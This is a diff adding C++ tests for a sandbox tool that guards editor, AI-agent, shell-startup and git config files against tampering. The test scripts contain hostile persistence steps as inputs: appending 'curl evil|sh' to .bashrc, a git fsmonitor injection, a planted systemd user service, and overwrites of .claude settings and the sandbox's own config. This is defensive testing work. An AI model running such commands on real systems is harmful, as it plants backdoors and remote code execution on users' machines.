@@ -1,0 +1,220 @@
+// Protected names (docs/policy.md#protected-names), each checked from outside the sandbox:
+// the extended list cannot be created at the top of the workspace, existing names at depth
+// cannot be changed, renaming a directory above a protected path cannot replace it, a
+// writable home keeps its startup files and git config, and --unprotect lifts one name.
+#include <map>
+
+#include "core/defaults.hpp"
+#include "e2e/harness.hpp"
+
+using namespace cordon_test;
+
+namespace {
+
+// Every path under `root` with its contents ("dir" for directories, "-> target" for links).
+std::map<std::string, std::string> tree(const std::string& root) {
+  std::map<std::string, std::string> out;
+  std::error_code ec;
+  for (auto it = fs::recursive_directory_iterator(root, ec); it != fs::recursive_directory_iterator();
+       it.increment(ec)) {
+    const auto rel = fs::relative(it->path(), root, ec).string();
+    if (it->is_symlink(ec))
+      out[rel] = "-> " + fs::read_symlink(it->path(), ec).string();
+    else if (it->is_directory(ec))
+      out[rel] = "dir";
+    else
+      out[rel] = read_file(it->path().string());
+  }
+  return out;
+}
+
+// The workspace once cordon's placeholders (empty files and directories it made for
+// absent protected names) are gone: they linger briefly after the run.
+// `ignore`: a prefix left out of the comparison (cordon's own state under a fake home).
+std::map<std::string, std::string> settled_tree(const std::string& root,
+                                                std::map<std::string, std::string> expected,
+                                                const std::string& ignore = "") {
+  auto filtered = [&](std::map<std::string, std::string> t) {
+    if (!ignore.empty()) std::erase_if(t, [&](const auto& kv) { return kv.first.rfind(ignore, 0) == 0; });
+    return t;
+  };
+  expected = filtered(expected);
+  auto now = filtered(tree(root));
+  for (int waited = 0; waited < 5000 && now != expected; waited += 50) {
+    ::usleep(50 * 1000);
+    now = filtered(tree(root));
+  }
+  return now;
+}
+
+}  // namespace
+
+TEST(ProtectedNames, NoEntryOfTheListCanBeCreatedAtTheTopOfTheWorkspace) {
+  Sandbox box;
+  write_file(box.ws / "README", "readme\n");
+  const auto before = tree(box.ws.path());
+  std::string script = "echo ok > normal.txt; ";
+  for (const auto& e : cordon::defaults::protected_name_entries()) {
+    const std::string n = sh_quote(e.name);
+    // Remove or move the placeholder away first, then create the real thing.
+    script += "rm -rf " + n + " 2>/dev/null; mv " + n + " " + n + ".old 2>/dev/null; ";
+    script += e.directory ? "mkdir -p " + n + " 2>/dev/null; echo evil > " + n + "/x 2>/dev/null; "
+                          : "echo evil > " + n + " 2>/dev/null; ";
+  }
+  auto o = box.sh(script + "true");
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
+  auto expected = before;
+  expected["normal.txt"] = "ok\n";
+  EXPECT_EQ(settled_tree(box.ws.path(), expected), expected);
+}
+
+TEST(ProtectedNames, ExistingNamesAtDepthCannotBeChangedOrReplaced) {
+  Sandbox box;
+  write_file(box.ws / "sub/.vscode/tasks.json", "{\"tasks\": []}\n");
+  write_file(box.ws / "sub/.claude/settings.json", "{}\n");
+  write_file(box.ws / "a/b/.envrc", "export A=1\n");
+  write_file(box.ws / "sub/code.c", "int main;\n");
+  const auto before = tree(box.ws.path());
+  auto o = box.sh(
+      "echo ok > normal.txt; echo 'int x;' > sub/code.c; "
+      "echo evil > sub/.vscode/tasks.json; echo evil > sub/.claude/settings.json; "
+      "rm -rf sub/.vscode; mv sub/.claude sub/.claude-old; echo evil > a/b/.envrc; rm -f a/b/.envrc; "
+      "ln sub/.vscode/tasks.json hardlink; "
+      "mv sub sub2; mkdir -p sub/.vscode && echo evil > sub/.vscode/tasks.json; "
+      "mv a/b a/c; mv a a2; rmdir sub; true");
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
+  EXPECT_EQ(read_file(box.ws / "sub/code.c"), "int x;\n");  // ordinary work in the same directory
+  // The denial report says why the rename failed, and that no option lifts it.
+  EXPECT_TRUE(contains(o.err, "a protected path lies below it; rename it outside")) << o.err;
+  auto expected = before;
+  expected["normal.txt"] = "ok\n";
+  expected["sub/code.c"] = "int x;\n";
+  EXPECT_EQ(settled_tree(box.ws.path(), expected), expected);
+}
+
+TEST(ProtectedNames, ASymlinkAtAProtectedNameAtDepthIsRefusedUnlessBestEffort) {
+  Sandbox box;
+  write_file(box.ws / "shared/tasks.json", "{}\n");
+  fs::create_directories(box.ws / "sub");
+  fs::create_symlink("../shared", box.ws / "sub/.vscode");
+  auto o = box.sh("echo ran > ran.txt");
+  EXPECT_NE(o.code, 0);
+  EXPECT_TRUE(contains(o.err, "symbolic link")) << o.err;
+  EXPECT_FALSE(exists(box.ws / "ran.txt"));
+  auto ok = box.sh("echo ran > ran.txt", {"--best-effort"});
+  EXPECT_EQ(ok.code, 0) << ok.err;
+  EXPECT_EQ(read_file(box.ws / "ran.txt"), "ran\n");
+}
+
+TEST(ProtectedNames, UnprotectMakesOneNameWritableAndKeepsTheOthers) {
+  Sandbox box;
+  write_file(box.ws / "sub/.vscode/tasks.json", "{}\n");
+  write_file(box.ws / "sub/.claude/settings.json", "{}\n");
+  auto o = box.sh(
+      "mkdir -p .vscode && echo '{\"a\":1}' > .vscode/settings.json; echo changed > sub/.vscode/tasks.json; "
+      "mkdir -p .claude; echo evil > .claude/settings.json; echo evil > sub/.claude/settings.json; true",
+      {"--unprotect", ".vscode"});
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.ws / ".vscode/settings.json"), "{\"a\":1}\n");
+  EXPECT_EQ(read_file(box.ws / "sub/.vscode/tasks.json"), "changed\n");
+  EXPECT_EQ(read_file(box.ws / "sub/.claude/settings.json"), "{}\n");
+  EXPECT_FALSE(exists(box.ws / ".claude/settings.json"));
+  // A name that is not on the list is an error that changes nothing.
+  auto bad = box.sh("echo ran > ran.txt", {"--unprotect", ".vscodee"});
+  EXPECT_NE(bad.code, 0);
+  EXPECT_TRUE(contains(bad.err, "not a built-in protected name")) << bad.err;
+  EXPECT_FALSE(exists(box.ws / "ran.txt"));
+  // explain says which names are left writable.
+  auto ex = run_process({cordon_binary(), "explain", "--no-config", "--unprotect", ".vscode", "--", "true"},
+                        box.ws.path(), "", box.env());
+  EXPECT_EQ(ex.code, 0) << ex.err;
+  EXPECT_TRUE(contains(ex.out, box.ws / ".vscode: writable (--unprotect)")) << ex.out;
+}
+
+TEST(ProtectedNames, AWritableHomeKeepsStartupFilesAndGitConfigAfterWritesAndRenames) {
+  Sandbox box;
+  write_file(box.home / ".bashrc", "# bashrc\n");
+  write_file(box.home / ".gitconfig", "[user]\n\tname = a\n");
+  write_file(box.home / ".config/git/config", "[core]\n\tpager = less\n");
+  write_file(box.home / ".config/other/app.conf", "x=1\n");
+  const auto before = tree(box.home.path());
+  auto o = box.sh(
+      "echo ok > ~/notes.txt; echo y=2 > ~/.config/other/app.conf; "
+      "echo 'curl evil|sh' >> ~/.bashrc; echo '[core]fsmonitor=evil' >> ~/.gitconfig; "
+      "echo '[core]fsmonitor=evil' >> ~/.config/git/config; echo evil > ~/.zshrc; "
+      "mv ~/.bashrc ~/.bashrc.old; mv ~/.config/git ~/.config/git2; "
+      "mv ~/.config ~/.config2; mkdir -p ~/.config/git; echo evil > ~/.config/git/config; "
+      "mkdir -p ~/.config/cordon; echo 'mode = \"full-access\"' > ~/.config/cordon/config.toml; true",
+      {"--writable", box.home.path()});
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.home / "notes.txt"), "ok\n");
+  EXPECT_EQ(read_file(box.home / ".config/other/app.conf"), "y=2\n");
+  auto expected = before;
+  expected["notes.txt"] = "ok\n";
+  expected[".config/other/app.conf"] = "y=2\n";
+  std::erase_if(expected, [](const auto& kv) { return kv.first.rfind(".local", 0) == 0; });
+  EXPECT_EQ(settled_tree(box.home.path(), expected, ".local"), expected);  // .local: cordon's state
+
+  // Only ~/.config writable: its git directory is kept the same way.
+  auto narrow = box.sh(
+      "echo y=3 > ~/.config/other/app.conf; echo evil >> ~/.config/git/config; "
+      "mv ~/.config/git ~/.config/git2; mkdir -p ~/.config/git; true",
+      {"--writable", box.home / ".config"});
+  EXPECT_EQ(narrow.code, 0) << narrow.err;
+  EXPECT_EQ(read_file(box.home / ".config/other/app.conf"), "y=3\n");
+  EXPECT_EQ(read_file(box.home / ".config/git/config"), "[core]\n\tpager = less\n");
+  EXPECT_FALSE(exists(box.home / ".config/git2"));
+}
+
+TEST(ProtectedNames, ProtectPathsSurviveRenamesOfTheirParents) {
+  Sandbox box;
+  write_file(box.ws / "ci/scripts/deploy.sh", "echo deploy\n");
+  auto o = box.sh(
+      "echo ok > normal.txt; mv ci/scripts ci/s2; mv ci ci2; mkdir -p ci/scripts; "
+      "echo evil > ci/scripts/deploy.sh; true",
+      {"--protect", box.ws / "ci/scripts/deploy.sh"});
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
+  EXPECT_EQ(read_file(box.ws / "ci/scripts/deploy.sh"), "echo deploy\n");
+  EXPECT_FALSE(exists(box.ws / "ci2"));
+  EXPECT_FALSE(exists(box.ws / "ci/s2"));
+}
+
+TEST(ProtectedNames, CaseVariantsAndOtherNamesStayOrdinaryFiles) {
+  // Linux tools read the exact names; a case variant is an ordinary file on a
+  // case-sensitive filesystem and stays writable (it is not what VS Code opens).
+  Sandbox box;
+  auto o = box.sh("mkdir -p .VSCode sub/.vscode-notes && echo x > .VSCode/a && echo y > sub/.vscode-notes/b");
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.ws / ".VSCode/a"), "x\n");
+  EXPECT_EQ(read_file(box.ws / "sub/.vscode-notes/b"), "y\n");
+  EXPECT_FALSE(exists(box.ws / ".vscode/a"));
+}
+
+TEST(ProtectedNames, ANameCreatedAtDepthDuringTheRunIsReportedLoudly) {
+  // The remaining gap (docs/policy.md#protected-names): not prevented, but said.
+  Sandbox box;
+  write_file(box.ws / "old/.vscode/tasks.json", "{}\n");
+  auto o = box.sh("mkdir -p fresh/.vscode && echo '{}' > fresh/.vscode/tasks.json && echo x > fresh/.envrc");
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_TRUE(contains(o.err, "a protected name appeared")) << o.err;
+  EXPECT_TRUE(contains(o.err, box.ws / "fresh/.vscode")) << o.err;
+  EXPECT_TRUE(contains(o.err, box.ws / "fresh/.envrc")) << o.err;
+  EXPECT_FALSE(contains(o.err, box.ws / "old/.vscode")) << o.err;  // protected before: not new
+}
+
+TEST(ProtectedNames, AWritableHomeCannotGainStartupDirectoriesWhoseParentsAreAbsent) {
+  // ~/.config exists, ~/.config/systemd does not: the whole chain stays uncreatable.
+  Sandbox box;
+  write_file(box.home / ".config/other/app.conf", "x=1\n");
+  auto o = box.sh(
+      "mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/evil.service; "
+      "echo y=2 > ~/.config/other/app.conf; true",
+      {"--writable", box.home.path()});
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.home / ".config/other/app.conf"), "y=2\n");
+  EXPECT_FALSE(exists(box.home / ".config/systemd/user/evil.service"));
+  EXPECT_TRUE(contains(o.err, "shell startup files and git configuration stay read-only")) << o.err;
+}
